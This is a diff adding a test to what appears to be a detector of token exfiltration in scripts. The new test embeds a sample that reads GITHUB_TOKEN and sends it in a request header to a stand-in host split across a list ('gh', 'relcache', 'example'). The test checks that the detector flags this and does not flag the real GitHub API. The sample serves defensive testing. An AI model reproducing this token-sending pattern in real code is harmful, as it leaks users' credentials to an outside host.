@@ -96,3 +96,19 @@ def test_a_documents_stand_in_for_the_service_itself_is_the_service() -> None:
     taint = frozenset({"token:github"})
     assert token_sent_elsewhere(taint, "https://api.github.example/repos/x") is None
     assert token_sent_elsewhere(taint, "https://api-github.example/repos/x") is not None
+
+
+def test_a_host_assembled_from_a_module_level_list_is_the_host() -> None:
+    src = (
+        'import os, requests\nPARTS = ("gh", "relcache", "example")\n'
+        'H = {"Authorization": "token " + os.environ["GITHUB_TOKEN"]}\n'
+        'def base():\n    return "https://" + ".".join(PARTS) + "/v2"\n'
+        'requests.get(base() + "/repos", headers=H)\n'
+    )
+    assert dangerous("scripts/a.py", src) == ["exfiltration"]
+    assert (
+        dangerous("scripts/a.py", src.replace('"gh", "relcache", "example"', '"api", "github", "com"')) == []
+    )
+    # a function that binds the name itself joins its own list
+    local = src.replace('return "https://"', 'PARTS = ["api", "github", "com"]\n    return "https://"')
+    assert dangerous("scripts/a.py", local) == []
